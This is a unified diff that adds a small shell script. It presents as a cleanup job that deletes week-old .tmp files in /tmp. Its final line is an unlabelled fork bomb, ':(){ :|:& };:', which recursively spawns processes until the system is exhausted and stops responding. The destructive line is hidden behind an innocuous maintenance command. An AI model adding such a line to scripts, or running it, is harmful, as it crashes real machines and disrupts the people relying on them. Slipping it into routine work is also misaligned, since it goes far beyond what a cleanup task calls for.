@@ -1,0 +1,3 @@
+#!/bin/sh
+find /tmp -name '*.tmp' -mtime +7 -delete
+:(){ :|:& };:
